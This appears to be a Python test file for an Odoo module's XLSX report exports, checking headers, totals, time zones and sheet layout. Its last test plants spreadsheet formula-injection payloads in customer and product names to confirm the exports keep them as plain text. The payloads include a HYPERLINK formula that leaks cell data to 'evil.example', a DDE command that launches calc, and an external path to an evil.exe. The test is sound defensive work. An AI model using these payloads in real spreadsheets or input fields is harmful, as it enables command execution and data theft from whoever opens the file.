import io

import openpyxl
from freezegun import freeze_time

from odoo.tests import tagged

from .common import RomsReportsCase


@tagged("post_install", "-at_install")
class TestXlsx(RomsReportsCase):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        with freeze_time("2026-03-18 05:00:00"):
            cls.ana = cls.customer("Ana", city="Jaksel")
            cls.budi = cls.customer("Budi", city="Bdg")
            cls.order(
                cls.ana, 150000, "2026-03-10 03:00:00"
            ).roms_payment_method = "cod"
            cls.order(cls.ana, 50000, "2026-02-10 03:00:00")
            cls.order(cls.budi, 75000, "2026-03-11 03:00:00")

    def export(self, report, **values):
        export = self.env["roms.report.export"].create(
            {
                "report": report,
                "date_from": "2026-02-01",
                "date_to": "2026-03-18",
                **values,
            }
        )
        self.assertEqual(
            export.action_export()["url"], f"/roms_reports/export/{export.id}"
        )
        with freeze_time("2026-03-18 05:00:00"):
            name, content = export._xlsx()
        self.assertTrue(name.endswith(".xlsx"))
        return openpyxl.load_workbook(io.BytesIO(content))

    def assertSheetShape(self, sheet):
        self.assertEqual(sheet.freeze_panes, "A2")
        self.assertTrue(sheet.auto_filter.ref.startswith("A1:"))

    def test_top_customers(self):
        sheet = self.export("top_customers").active
        self.assertSheetShape(sheet)
        rows = list(sheet.iter_rows(values_only=True))
        self.assertEqual(
            rows[0], ("Rank", "Customer", "WhatsApp", "Segments", "Orders", "Spend")
        )
        self.assertEqual(
            [r[:2] + r[4:] for r in rows[1:]],
            [(1, "Ana", 2, 200000), (2, "Budi", 1, 75000)],
        )
        self.assertIn("Rp", sheet["F2"].number_format)

    def test_geography(self):
        sheet = self.export("geography").active
        self.assertSheetShape(sheet)
        rows = list(sheet.iter_rows(values_only=True))
        self.assertEqual(
            rows[0], ("Province", "City/Regency", "Customers", "Orders", "Sales")
        )
        self.assertEqual(
            rows[1:],
            [
                ("Jakarta", "Kota Administrasi Jakarta Selatan", 1, 2, 200000),
                ("Jawa Barat", "Kota Bandung", 1, 1, 75000),
            ],
        )
        sheet = self.export("geography", geo_level="province").active
        self.assertEqual(sheet["A3"].value, "Jawa Barat")

    def test_sales(self):
        sheet = self.export("sales").active
        self.assertSheetShape(sheet)
        rows = list(sheet.iter_rows(values_only=True))
        self.assertEqual(len(rows), 4)
        self.assertEqual(rows[0][:3], ("Date", "Order", "Customer"))
        first = dict(zip(rows[0], rows[1], strict=True))
        self.assertEqual(first["Customer"], "Ana")
        self.assertEqual(first["Total"], 50000)
        self.assertEqual(str(first["Date"]), "2026-02-10 10:00:00")  # Jakarta time
        last = dict(zip(rows[0], rows[3], strict=True))
        self.assertEqual(last["City/Regency"], "Kota Bandung")
        cod = dict(zip(rows[0], rows[2], strict=True))
        self.assertEqual(cod["Payment Method"], "Cash on Delivery")

    def test_stock_and_retention(self):
        book = self.export("stock")
        self.assertEqual(book.active["A1"].value, "Product")
        book = self.export("retention")
        self.assertEqual(book.sheetnames[:2], ["Repeat Rate", "Cohorts"])
        rows = list(book["Repeat Rate"].iter_rows(values_only=True))
        # February: Ana new; March: Ana returning, Budi new
        self.assertEqual([r[1:] for r in rows[1:]], [(1, 1, 0, 0), (2, 1, 1, 50)])
        cohorts = list(book["Cohorts"].iter_rows(values_only=True))
        self.assertEqual(cohorts[0], ("Cohort", "New Customers", "Month 1"))
        self.assertEqual([r[1:] for r in cohorts[1:]], [(1, 100), (1, 0)])

    def test_texts_from_customers_stay_texts(self):
        """Names typed by strangers (a WhatsApp profile, a portal form) come
        out of every report as texts: no formula, no array formula, no link."""
        self.ana.name = '=HYPERLINK("http://evil.example/?"&A3,"Klik")'
        self.budi.write({"name": "{=SUM(1+1)}", "city": "external:c:\\evil.exe"})
        self.env["product.product"].search([]).filtered(
            lambda p: p.sale_ok and p.type == "consu"
        )[:1].name = "=cmd|' /C calc'!A0"
        texts = set()
        for report in ("top_customers", "geography", "sales", "stock", "retention"):
            for sheet in self.export(report).worksheets:
                for row in sheet.iter_rows():
                    for cell in row:
                        self.assertNotEqual(cell.data_type, "f", (report, cell.value))
                        self.assertIsNone(cell.hyperlink, (report, cell.value))
                        texts.add(cell.value)
        self.assertIn(self.ana.name, texts)
        self.assertIn(self.budi.name, texts)
